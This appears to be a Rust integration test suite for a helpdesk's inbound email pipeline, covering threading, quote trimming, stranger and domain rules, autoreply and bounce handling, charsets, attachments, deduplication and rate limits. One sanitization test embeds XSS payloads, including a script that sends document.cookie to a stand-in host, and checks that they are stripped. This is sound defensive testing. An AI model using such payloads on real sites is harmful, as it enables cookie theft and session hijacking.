//! The inbound pipeline through its HTTP door (`POST /api/v1/inbound/email`):
//! new tickets, threading, trimming, strangers, noise, charsets, HTML,
//! attachments, duplicates, and the outbox it fills.

use itdesk::auth::Role;
use serde_json::{Value, json};

use crate::helpers::{TestApp, assert_problem, spawn_app, spawn_app_with};

/// A plain-text message; `extra` are further header lines ending in CRLF.
pub fn mail(from: &str, subject: &str, message_id: &str, extra: &str, body: &str) -> String {
    format!(
        "From: {from}\r\nTo: IT Helpdesk <helpdesk@example.org>\r\nSubject: {subject}\r\n\
Message-ID: <{message_id}>\r\nDate: Tue, 24 Nov 2026 09:00:00 +0100\r\nMIME-Version: 1.0\r\n{extra}\
Content-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
    )
}

pub async fn post_raw(app: &TestApp, token: &str, raw: impl Into<Vec<u8>>) -> reqwest::Response {
    app.client
        .post(app.url("/api/v1/inbound/email"))
        .bearer_auth(token)
        .header("content-type", "message/rfc822")
        .body(raw.into())
        .send()
        .await
        .unwrap()
}

/// Posts a message and returns the outcome (asserting 200).
pub async fn inbound(app: &TestApp, token: &str, raw: impl Into<Vec<u8>>) -> Value {
    let resp = post_raw(app, token, raw).await;
    let status = resp.status();
    let body: Value = resp.json().await.unwrap();
    assert_eq!(status, 200, "inbound failed: {body}");
    body
}

async fn json(app: &TestApp, token: &str, path: &str) -> Value {
    let resp = app.get(token, path).await;
    assert_eq!(resp.status(), 200, "GET {path}");
    resp.json().await.unwrap()
}

async fn outbox(app: &TestApp, token: &str) -> Vec<Value> {
    json(app, token, "/api/v1/mail/outbox")
        .await
        .as_array()
        .unwrap()
        .clone()
}

async fn comments(app: &TestApp, token: &str, n: i64) -> Vec<Value> {
    json(app, token, &format!("/api/v1/tickets/{n}/comments"))
        .await
        .as_array()
        .unwrap()
        .clone()
}

async fn actions(app: &TestApp, token: &str, n: i64) -> Vec<String> {
    json(app, token, &format!("/api/v1/tickets/{n}/history"))
        .await
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["action"].as_str().unwrap().to_owned())
        .collect()
}

const FIRST: &str = "Alice Martin <alice@example.com>";

/// Alice mails the helpdesk with Bob in CC: ticket 1.
async fn first_ticket(app: &TestApp, gate: &str) -> Value {
    let raw = mail(
        FIRST,
        "Printer on fire",
        "orig-1@mail.example.com",
        "Cc: Bob Stone <bob@example.com>\r\n",
        "The printer on floor 2 is smoking.\r\nPlease send someone.",
    );
    let out = inbound(app, gate, raw).await;
    assert_eq!(out["action"], "created", "{out}");
    assert_eq!(out["ticket"], 1);
    out
}

#[tokio::test]
async fn mail_opens_a_ticket_with_watchers_and_an_acknowledgement() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let out = first_ticket(&app, &gate).await;
    assert_eq!(out["reason"], "new ticket from alice@example.com");

    let t = json(&app, &gate, "/api/v1/tickets/1").await;
    assert_eq!(t["channel"], "email");
    assert_eq!(t["subject"], "Printer on fire");
    assert_eq!(t["requester"]["email"], "alice@example.com");
    assert_eq!(t["requester"]["name"], "Alice Martin");
    assert!(
        t["description"]
            .as_str()
            .unwrap()
            .contains("floor 2 is smoking"),
        "{t}"
    );
    let watchers: Vec<&str> = t["watchers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["email"].as_str().unwrap())
        .collect();
    assert_eq!(
        watchers,
        vec!["bob@example.com"],
        "CC becomes a watcher, our own address does not"
    );

    let sent = outbox(&app, &gate).await;
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0]["kind"], "acknowledgement");
    assert_eq!(sent[0]["recipients"], json!(["alice@example.com"]));
    assert!(
        sent[0]["subject"].as_str().unwrap().contains("[#1]"),
        "{}",
        sent[0]
    );
    assert_eq!(sent[0]["status"], "queued");

    // The ticket's mail: the message in and the acknowledgement out, both readable.
    let mail = json(&app, &gate, "/api/v1/tickets/1/mail").await;
    let mail = mail.as_array().unwrap();
    assert_eq!(mail.len(), 2, "{mail:?}");
    assert_eq!(mail[0]["direction"], "in");
    assert_eq!(mail[0]["message_id"], "orig-1@mail.example.com");
    assert!(mail[0]["text"].as_str().unwrap().contains("smoking"));
    assert_eq!(mail[1]["direction"], "out");
    assert!(
        mail[1]["text"].as_str().unwrap().contains("[#1]"),
        "{}",
        mail[1]
    );
    assert_eq!(app.count("users WHERE email = 'bob@example.com'").await, 1);
}

#[tokio::test]
async fn gmail_and_outlook_replies_thread_and_lose_their_quoted_history() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    first_ticket(&app, &gate).await;
    let ack = outbox(&app, &gate).await[0]["message_id"]
        .as_str()
        .unwrap()
        .to_owned();

    // Gmail: tag in the subject, text and HTML, quote under "On … wrote:".
    let gmail = format!(
        "From: Alice Martin <alice@example.com>\r\nTo: helpdesk@example.org\r\n\
Subject: Re: [#1] Printer on fire\r\nMessage-ID: <CAF-gmail-2@mail.gmail.com>\r\n\
In-Reply-To: <{ack}>\r\nReferences: <orig-1@mail.example.com> <{ack}>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n--b1\r\n\
Content-Type: text/plain; charset=\"UTF-8\"\r\n\r\nIt is still smoking, please hurry.\r\n\r\n\
On Tue, 24 Nov 2026 at 10:00, IT Helpdesk <helpdesk@example.org> wrote:\r\n\
> We have received your request [#1].\r\n> Reply to this message to add to it.\r\n\r\n--b1\r\n\
Content-Type: text/html; charset=\"UTF-8\"\r\n\r\n<div dir=\"ltr\">It is still smoking, please hurry.</div><br>\
<div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">On Tue, 24 Nov 2026 at 10:00, IT Helpdesk wrote:<br></div>\
<blockquote class=\"gmail_quote\">We have received your request [#1].</blockquote></div>\r\n--b1--\r\n"
    );
    let out = inbound(&app, &gate, gmail).await;
    assert_eq!(out["action"], "appended", "{out}");
    assert_eq!(out["ticket"], 1);

    // Outlook: no tag (the subject was edited), threaded by In-Reply-To;
    // the quote is an "-----Original Message-----" block.
    let outlook = mail(
        FIRST,
        "RE: Printer on fire",
        "DB7PR01MB-outlook-3@eurprd01.prod.outlook.com",
        &format!("In-Reply-To: <{ack}>\r\nThread-Index: AQIDBAUGBwgJCgsMDQ4PEBESExQVFgkJCQkJ\r\n"),
        "Also the toner is empty.\r\n\r\n-----Original Message-----\r\n\
From: IT Helpdesk <helpdesk@example.org>\r\nSent: Tuesday, November 24, 2026 10:00 AM\r\n\
To: Alice Martin <alice@example.com>\r\nSubject: [#1] Printer on fire\r\n\r\n\
We have received your request.",
    );
    let out = inbound(&app, &gate, outlook).await;
    assert_eq!(out["action"], "appended", "{out}");
    assert_eq!(out["ticket"], 1);

    let c = comments(&app, &gate, 1).await;
    let bodies: Vec<&str> = c.iter().map(|c| c["body"].as_str().unwrap()).collect();
    assert_eq!(
        bodies,
        vec![
            "It is still smoking, please hurry.",
            "Also the toner is empty."
        ]
    );
    assert!(
        c.iter()
            .all(|c| c["author"]["email"] == "alice@example.com")
    );
    assert!(c.iter().all(|c| c["public"] == true));
    // The full originals stay viewable.
    let mail = json(&app, &gate, "/api/v1/tickets/1/mail").await;
    let texts: Vec<&str> = mail
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["direction"] == "in")
        .map(|m| m["text"].as_str().unwrap())
        .collect();
    assert_eq!(texts.len(), 3);
    assert!(texts[1].contains("We have received your request"));
    assert!(texts[2].contains("-----Original Message-----"));
    assert_eq!(app.count("tickets").await, 1, "no reply became a ticket");
}

#[tokio::test]
async fn outlook_thread_index_threads_when_nothing_else_does() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let first = mail(
        "carol@example.com",
        "VPN drops every hour",
        "outlook-a@prod.outlook.com",
        "Thread-Index: AQIDBAUGBwgJCgsMDQ4PEBESExQVFg==\r\n",
        "Since Monday.",
    );
    assert_eq!(inbound(&app, &gate, first).await["action"], "created");
    // No tag, no In-Reply-To, no References: only the conversation index.
    let reply = mail(
        "carol@example.com",
        "RE: VPN drops every hour",
        "outlook-b@prod.outlook.com",
        "Thread-Index: AQIDBAUGBwgJCgsMDQ4PEBESExQVFgkJCQkJ\r\n",
        "And now it drops every ten minutes.",
    );
    let out = inbound(&app, &gate, reply).await;
    assert_eq!(out["action"], "appended", "{out}");
    assert_eq!(out["ticket"], 1);
    // An unrelated message with another index starts its own ticket.
    let other = mail(
        "carol@example.com",
        "Monitor flickers",
        "outlook-c@prod.outlook.com",
        "Thread-Index: AQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJ\r\n",
        "The left one.",
    );
    assert_eq!(inbound(&app, &gate, other).await["ticket"], 2);
}

#[tokio::test]
async fn a_stranger_with_a_valid_tag_never_adds_to_the_ticket() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    first_ticket(&app, &gate).await;
    let stranger = mail(
        "Mallory <mallory@example.net>",
        "Re: [#1] Printer on fire",
        "mallory-1@example.net",
        "",
        "Please also send me the admin password.",
    );
    let out = inbound(&app, &gate, stranger).await;
    assert_eq!(out["action"], "created", "{out}");
    assert_eq!(out["ticket"], 2, "a ticket of their own");
    assert!(comments(&app, &gate, 1).await.is_empty());
    let t2 = json(&app, &gate, "/api/v1/tickets/2").await;
    assert_eq!(t2["requester"]["email"], "mallory@example.net");

    // The watcher and staff may add by tag.
    let watcher = mail(
        "bob@example.com",
        "Re: [#1] Printer on fire",
        "bob-1@example.com",
        "",
        "I can smell it from here.",
    );
    assert_eq!(inbound(&app, &gate, watcher).await["action"], "appended");
    app.token("agent@example.org", Role::Agent).await;
    let staff = mail(
        "agent@example.org",
        "Re: [#1] Printer on fire",
        "agent-1@example.org",
        "",
        "On my way with an extinguisher.",
    );
    assert_eq!(inbound(&app, &gate, staff).await["action"], "appended");
    let authors: Vec<String> = comments(&app, &gate, 1)
        .await
        .iter()
        .map(|c| c["author"]["email"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(authors, vec!["bob@example.com", "agent@example.org"]);
}

#[tokio::test]
async fn a_stranger_with_a_tag_is_held_when_configured_so() {
    let app = spawn_app_with(vec![("mail.stranger_with_tag".into(), json!("hold"))]).await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    first_ticket(&app, &gate).await;
    let stranger = mail(
        "mallory@example.net",
        "Re: [#1] Printer on fire",
        "mallory-2@example.net",
        "",
        "Let me in.",
    );
    let out = inbound(&app, &gate, stranger).await;
    assert_eq!(out["action"], "held", "{out}");
    assert_eq!(out["ticket"], Value::Null);
    assert!(
        out["reason"]
            .as_str()
            .unwrap()
            .contains("may not add to ticket 1")
    );
    assert_eq!(app.count("tickets").await, 1);
    assert!(comments(&app, &gate, 1).await.is_empty());
    let held = json(&app, &gate, "/api/v1/mail/held").await;
    assert_eq!(held.as_array().unwrap().len(), 1);
    assert_eq!(held[0]["from"], "mallory@example.net");
    // Mail administration is for staff.
    let alice = app.token("alice@example.com", Role::Requester).await;
    assert_problem(app.get(&alice, "/api/v1/mail/held").await, 403, "forbidden").await;
    assert_problem(
        post_raw(&app, &alice, mail("a@example.com", "s", "x@y", "", "b")).await,
        403,
        "forbidden",
    )
    .await;
}

#[tokio::test]
async fn senders_outside_the_allowed_domains_are_held_or_rejected() {
    for (rule, action) in [("hold", "held"), ("reject", "ignored")] {
        let app = spawn_app_with(vec![
            ("mail.allowed_domains".into(), json!(["example.com"])),
            ("mail.unknown_domain".into(), json!(rule)),
        ])
        .await;
        let gate = app.token("mta@example.org", Role::Agent).await;
        let users = app.count("users").await;
        let out = inbound(
            &app,
            &gate,
            mail("eve@elsewhere.net", "Hello", "eve@elsewhere.net", "", "Hi"),
        )
        .await;
        assert_eq!(out["action"], action, "{rule}: {out}");
        assert!(
            out["reason"]
                .as_str()
                .unwrap()
                .contains("elsewhere.net is not an allowed domain")
        );
        assert_eq!(app.count("tickets").await, 0);
        assert_eq!(app.count("users").await, users, "no contact for eve");
        assert!(outbox(&app, &gate).await.is_empty(), "no answer");
        let ok = inbound(
            &app,
            &gate,
            mail("dan@example.com", "Hello", "dan@example.com", "", "Hi"),
        )
        .await;
        assert_eq!(ok["action"], "created");
    }
}

#[tokio::test]
async fn out_of_office_and_bounces_create_no_ticket_and_send_nothing() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let agent = app.token("agent@example.org", Role::Agent).await;
    first_ticket(&app, &gate).await;
    let ack = outbox(&app, &gate).await[0]["message_id"]
        .as_str()
        .unwrap()
        .to_owned();
    // The agent waits for Alice; her out-of-office must not end the wait.
    let r = app
        .patch_json(
            &agent,
            "/api/v1/tickets/1",
            &json!({"status": "on_hold", "hold_reason": "awaiting_requester"}),
        )
        .await;
    assert_eq!(r.status(), 200);
    let sent_before = outbox(&app, &gate).await.len();
    assert_eq!(sent_before, 2, "acknowledgement and the waiting notice");

    let ooo = mail(
        FIRST,
        "Automatic reply: [#1] Printer on fire",
        "ooo-1@mail.example.com",
        &format!("Auto-Submitted: auto-replied\r\nIn-Reply-To: <{ack}>\r\n"),
        "I am out of the office until Monday.",
    );
    let out = inbound(&app, &gate, ooo).await;
    assert_eq!(out["action"], "ignored", "{out}");
    assert_eq!(out["ticket"], 1);
    assert!(out["reason"].as_str().unwrap().contains("automatic reply"));
    // Other automatic replies: Microsoft's and the old X-Autoreply.
    for (i, header) in ["X-Autoreply: yes\r\n", "Precedence: auto_reply\r\n"]
        .iter()
        .enumerate()
    {
        let raw = mail(
            FIRST,
            "Out of office",
            &format!("ooo-{}@mail.example.com", i + 2),
            &format!("{header}In-Reply-To: <{ack}>\r\n"),
            "Away.",
        );
        assert_eq!(inbound(&app, &gate, raw).await["action"], "ignored");
    }
    let t = json(&app, &gate, "/api/v1/tickets/1").await;
    assert_eq!(t["status"], "on_hold", "the clock stays paused");
    assert!(comments(&app, &gate, 1).await.is_empty());
    assert!(
        actions(&app, &gate, 1)
            .await
            .iter()
            .any(|a| a == "mail_autoreply")
    );

    // A delivery status notification about our acknowledgement.
    let bounce = format!(
        "From: Mail Delivery System <MAILER-DAEMON@mx.example.com>\r\nTo: helpdesk@example.org\r\n\
Subject: Undelivered Mail Returned to Sender\r\nMessage-ID: <bounce-1@mx.example.com>\r\n\
Return-Path: <>\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/report; report-type=delivery-status; boundary=\"rb\"\r\n\r\n\
--rb\r\nContent-Type: text/plain\r\n\r\nThis is the mail system. Your message could not be delivered.\r\n\
--rb\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.com\r\n\r\n\
Final-Recipient: rfc822; alice@example.com\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n\
--rb\r\nContent-Type: text/rfc822-headers\r\n\r\nFrom: IT Helpdesk <helpdesk@example.org>\r\n\
To: alice@example.com\r\nSubject: [#1] Printer on fire\r\nMessage-ID: <{ack}>\r\n\r\n--rb--\r\n"
    );
    let out = inbound(&app, &gate, bounce).await;
    assert_eq!(out["action"], "bounce", "{out}");
    assert_eq!(out["ticket"], 1);
    let sent = outbox(&app, &gate).await;
    assert_eq!(sent.len(), sent_before, "nothing answered");
    let acked = sent
        .iter()
        .find(|m| m["message_id"] == ack.as_str())
        .unwrap();
    assert_eq!(acked["status"], "bounced");
    assert!(
        actions(&app, &gate, 1)
            .await
            .iter()
            .any(|a| a == "mail_bounced")
    );

    // Lists and bulk senders: no ticket, no answer.
    for (i, header) in [
        "Precedence: bulk\r\n",
        "List-Id: <announce.example.com>\r\n",
        "Auto-Submitted: auto-generated\r\n",
        "Return-Path: <>\r\n",
    ]
    .iter()
    .enumerate()
    {
        let raw = mail(
            "news@example.com",
            "Our newsletter",
            &format!("news-{i}@example.com"),
            header,
            "Buy now",
        );
        let out = inbound(&app, &gate, raw).await;
        assert_eq!(out["action"], "ignored", "{header}: {out}");
        assert_eq!(out["ticket"], Value::Null);
    }
    assert_eq!(app.count("tickets").await, 1, "no noise became a ticket");
    assert_eq!(outbox(&app, &gate).await.len(), sent_before);

    // A real reply from Alice does end the wait.
    let real = mail(
        FIRST,
        "Re: [#1] Printer on fire",
        "real-1@mail.example.com",
        "",
        "Back now.",
    );
    assert_eq!(inbound(&app, &gate, real).await["action"], "appended");
    let t = json(&app, &gate, "/api/v1/tickets/1").await;
    assert_eq!(t["status"], "in_progress");
}

#[tokio::test]
async fn our_own_mail_is_never_taken_in_again() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    first_ticket(&app, &gate).await;
    let ack = outbox(&app, &gate).await[0]["message_id"]
        .as_str()
        .unwrap()
        .to_owned();
    // Our acknowledgement looping back (a forwarding rule, a list).
    let looped = mail(
        "IT Helpdesk <helpdesk@example.org>",
        "[#1] Printer on fire",
        &ack,
        "",
        "We have received your request.",
    );
    let out = inbound(&app, &gate, looped).await;
    assert_eq!(out["action"], "ignored", "{out}");
    // Someone else's address but one of our Message-IDs.
    let resent = mail("relay@example.com", "Fwd", &ack, "", "x");
    assert_eq!(inbound(&app, &gate, resent).await["action"], "ignored");
    assert_eq!(app.count("tickets").await, 1);
    assert!(comments(&app, &gate, 1).await.is_empty());
    assert_eq!(outbox(&app, &gate).await.len(), 1);
}

#[tokio::test]
async fn iso_8859_1_mail_with_encoded_words_reads_correctly() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let mut raw: Vec<u8> = b"From: =?ISO-8859-1?Q?Ren=E9e_Dupr=E9?= <renee@example.com>\r\n\
To: helpdesk@example.org\r\n\
Subject: =?ISO-8859-1?Q?Imprimante_en_panne_=E0_l'=E9tage?=\r\n\
Message-ID: <latin1-1@example.com>\r\nMIME-Version: 1.0\r\n\
Content-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        .to_vec();
    // "Le bac à papier est cassé, ça coince." in ISO-8859-1 bytes.
    raw.extend_from_slice(b"Le bac \xe0 papier est cass\xe9, \xe7a coince.\r\n");
    let out = inbound(&app, &gate, raw).await;
    assert_eq!(out["action"], "created", "{out}");
    let t = json(&app, &gate, "/api/v1/tickets/1").await;
    assert_eq!(t["subject"], "Imprimante en panne à l'étage");
    assert_eq!(t["requester"]["name"], "Renée Dupré");
    assert!(
        t["description"]
            .as_str()
            .unwrap()
            .contains("Le bac à papier est cassé, ça coince."),
        "{t}"
    );
}

/// A browser-like client logged in with a password.
async fn logged_in(app: &TestApp, email: &str, role: Role) -> reqwest::Client {
    app.user_with_password(email, role, "correct horse battery")
        .await;
    let client = reqwest::Client::builder()
        .cookie_store(true)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let page = client
        .get(app.url("/login"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let marker = "name=\"csrf\" value=\"";
    let start = page.find(marker).unwrap() + marker.len();
    let csrf = page[start..].split('"').next().unwrap().to_owned();
    let r = client
        .post(app.url("/login"))
        .form(&[
            ("csrf", csrf.as_str()),
            ("email", email),
            ("password", "correct horse battery"),
            ("next", "/"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 303);
    client
}

#[tokio::test]
async fn html_mail_with_script_and_onerror_shows_no_script() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let raw = "From: frank@example.com\r\nTo: helpdesk@example.org\r\nSubject: Screen\r\n\
Message-ID: <html-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n\
<html><head><script>alert('head')</script></head><body><p>My screen is <b>black</b>.</p>\
<script>document.location='https://evil.example/'+document.cookie</script>\
<img src=\"x\" onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">details</a>\
<iframe src=\"https://evil.example/\"></iframe><p onclick=\"alert(3)\">Thanks</p></body></html>\r\n";
    let out = inbound(&app, &gate, raw).await;
    assert_eq!(out["action"], "created", "{out}");
    let t = json(&app, &gate, "/api/v1/tickets/1").await;
    let d = t["description"].as_str().unwrap();
    assert!(
        d.contains("My screen is black."),
        "text derived from HTML: {d}"
    );
    assert!(d.contains("Thanks"));
    assert!(!d.contains("alert") && !d.contains("document."), "{d}");

    let mail = json(&app, &gate, "/api/v1/tickets/1/mail").await;
    let html = mail[0]["html"].as_str().unwrap();
    assert!(html.contains("<b>black</b>"), "{html}");
    for bad in [
        "<script",
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "alert(",
    ] {
        assert!(!html.contains(bad), "{bad} in sanitized HTML: {html}");
    }

    // The ticket page links the original; its page shows the safe HTML.
    let browser = logged_in(&app, "viewer@example.org", Role::Agent).await;
    let page = browser
        .get(app.url("/tickets/1"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let marker = "href=\"/tickets/1/mail/";
    let at = page.find(marker).expect("a link to the original message") + marker.len();
    let id = page[at..].split('"').next().unwrap().to_owned();
    let resp = browser
        .get(app.url(&format!("/tickets/1/mail/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let csp = resp.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(csp.contains("script-src 'self'"), "{csp}");
    let view = resp.text().await.unwrap();
    assert!(view.contains("My screen is <b>black</b>"), "{view}");
    for bad in [
        "onerror",
        "onclick",
        "javascript:",
        "<iframe",
        "alert(",
        "evil.example",
    ] {
        assert!(!view.contains(bad), "{bad} on the page");
    }
    assert!(!view.contains("<script>document"), "no inline script");
    // The bytes as received, to download.
    let raw_resp = browser
        .get(app.url(&format!("/tickets/1/mail/{id}/raw")))
        .send()
        .await
        .unwrap();
    assert_eq!(raw_resp.status(), 200);
    assert_eq!(raw_resp.headers()["content-type"], "message/rfc822");
    assert!(
        raw_resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    assert_eq!(raw_resp.bytes().await.unwrap().as_ref(), raw.as_bytes());
    // The originals are for staff.
    let requester = logged_in(&app, "rita@example.org", Role::Requester).await;
    let resp = requester
        .get(app.url(&format!("/tickets/1/mail/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
}

#[tokio::test]
async fn attachments_over_the_limit_are_dropped_with_a_note_not_the_message() {
    let app = spawn_app_with(vec![("attachments.max_bytes".into(), json!(2048))]).await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let big = "QUJD".repeat(1500); // 4.5 KB of base64 → 3.4 KB decoded
    let raw = format!(
        "From: gina@example.com\r\nTo: helpdesk@example.org\r\nSubject: Logs\r\n\
Message-ID: <att-1@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"mx\"\r\n\r\n\
--mx\r\nContent-Type: multipart/related; boundary=\"rel\"\r\n\r\n\
--rel\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>See the logs and <img src=\"cid:shot@x\"></p>\r\n\
--rel\r\nContent-Type: image/png\r\nContent-ID: <shot@x>\r\nContent-Disposition: inline; filename=\"shot.png\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\niVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==\r\n\
--rel--\r\n\
--mx\r\nContent-Type: text/plain; name=\"small.log\"\r\nContent-Disposition: attachment; filename=\"small.log\"\r\n\r\n\
line one\r\nline two\r\n\
--mx\r\nContent-Type: application/octet-stream; name=\"huge.bin\"\r\nContent-Disposition: attachment; filename=\"huge.bin\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{big}\r\n--mx--\r\n"
    );
    let out = inbound(&app, &gate, raw).await;
    assert_eq!(out["action"], "created", "{out}");
    let files = json(&app, &gate, "/api/v1/tickets/1/attachments").await;
    let mut names: Vec<&str> = files
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["filename"].as_str().unwrap())
        .collect();
    names.sort();
    assert_eq!(names, vec!["shot.png", "small.log"], "{files}");
    let history = json(&app, &gate, "/api/v1/tickets/1/history").await;
    let dropped: Vec<&Value> = history
        .as_array()
        .unwrap()
        .iter()
        .filter(|h| h["action"] == "mail_attachment_dropped")
        .collect();
    assert_eq!(dropped.len(), 1, "{history}");
    assert_eq!(dropped[0]["changes"]["filename"], "huge.bin");
    assert_eq!(dropped[0]["changes"]["size_bytes"], 4500);
    assert!(
        json(&app, &gate, "/api/v1/tickets/1").await["description"]
            .as_str()
            .unwrap()
            .contains("See the logs")
    );
}

#[tokio::test]
async fn the_same_message_twice_is_taken_in_once() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let raw = mail(
        "hank@example.com",
        "Keyboard",
        "dup-1@example.com",
        "",
        "Sticky keys.",
    );
    assert_eq!(inbound(&app, &gate, raw.clone()).await["action"], "created");
    let again = inbound(&app, &gate, raw.clone()).await;
    assert_eq!(again["action"], "ignored");
    assert_eq!(again["ticket"], 1);
    assert!(
        again["reason"]
            .as_str()
            .unwrap()
            .contains("already taken in")
    );
    // The same message relayed through another hop (extra trace headers).
    let relayed = format!(
        "Received: from mx2.example.com by mx.example.org\r\nDelivered-To: helpdesk@example.org\r\n{raw}"
    );
    assert_eq!(inbound(&app, &gate, relayed).await["action"], "ignored");
    // A different message that reuses the Message-ID is not lost.
    let other = mail(
        "hank@example.com",
        "Mouse",
        "dup-1@example.com",
        "",
        "Double clicks.",
    );
    assert_eq!(inbound(&app, &gate, other).await["action"], "created");
    assert_eq!(app.count("tickets").await, 2);
    assert_eq!(
        outbox(&app, &gate).await.len(),
        2,
        "one acknowledgement each"
    );
}

#[tokio::test]
async fn automatic_answers_to_one_sender_are_rate_limited() {
    let app = spawn_app_with(vec![("mail.autoreplies_per_hour".into(), json!(2))]).await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    for i in 0..5 {
        let raw = mail(
            "ivan@example.com",
            &format!("Problem {i}"),
            &format!("storm-{i}@example.com"),
            "",
            "help",
        );
        assert_eq!(inbound(&app, &gate, raw).await["action"], "created");
    }
    let raw = mail("judy@example.com", "Mine", "judy-1@example.com", "", "help");
    inbound(&app, &gate, raw).await;
    let acks: Vec<Value> = outbox(&app, &gate)
        .await
        .into_iter()
        .filter(|m| m["kind"] == "acknowledgement")
        .collect();
    let to_ivan = acks
        .iter()
        .filter(|m| m["recipients"] == json!(["ivan@example.com"]))
        .count();
    assert_eq!(to_ivan, 2, "five tickets, two answers");
    assert_eq!(acks.len(), 3, "judy still gets hers");
}

#[tokio::test]
async fn a_public_agent_reply_mails_requester_and_watchers_but_a_note_does_not() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let agent = app.token("agent@example.org", Role::Agent).await;
    first_ticket(&app, &gate).await;
    let r = app
        .post_json(
            &agent,
            "/api/v1/tickets/1/comments",
            &json!({"body": "Evacuate floor 2.", "public": true}),
        )
        .await;
    assert_eq!(r.status(), 201);
    let r = app
        .post_json(
            &agent,
            "/api/v1/tickets/1/comments",
            &json!({"body": "Probably the fuser.", "public": false}),
        )
        .await;
    assert_eq!(r.status(), 201);
    let sent = outbox(&app, &gate).await;
    let replies: Vec<&Value> = sent.iter().filter(|m| m["kind"] == "reply").collect();
    assert_eq!(replies.len(), 1, "{sent:?}");
    assert_eq!(
        replies[0]["recipients"],
        json!(["alice@example.com", "bob@example.com"])
    );
    let mail = json(&app, &gate, "/api/v1/tickets/1/mail").await;
    let reply = mail
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["message_id"] == replies[0]["message_id"])
        .unwrap();
    assert!(
        reply["text"]
            .as_str()
            .unwrap()
            .contains("Evacuate floor 2.")
    );
    assert!(!reply["text"].as_str().unwrap().contains("fuser"));
}

#[tokio::test]
async fn input_that_is_not_a_message_is_refused_and_kept_as_a_dead_letter() {
    let app = spawn_app().await;
    let gate = app.token("mta@example.org", Role::Agent).await;
    let body = assert_problem(
        post_raw(&app, &gate, b"\x00\x01 this is not mail at all".to_vec()).await,
        422,
        "validation_failed",
    )
    .await;
    assert!(body.to_string().contains("dead letter"), "{body}");
    let dead = json(&app, &gate, "/api/v1/mail/dead-letters").await;
    assert_eq!(dead.as_array().unwrap().len(), 1);
    assert_eq!(dead[0]["source"], "http");
    assert!(
        dead[0]["preview"]
            .as_str()
            .unwrap()
            .contains("this is not mail")
    );
    let resp = app
        .client
        .post(app.url("/api/v1/inbound/email"))
        .bearer_auth(&gate)
        .header("content-type", "application/json")
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_problem(resp, 415, "unsupported_media_type").await;
    assert_eq!(app.count("tickets").await, 0);
}
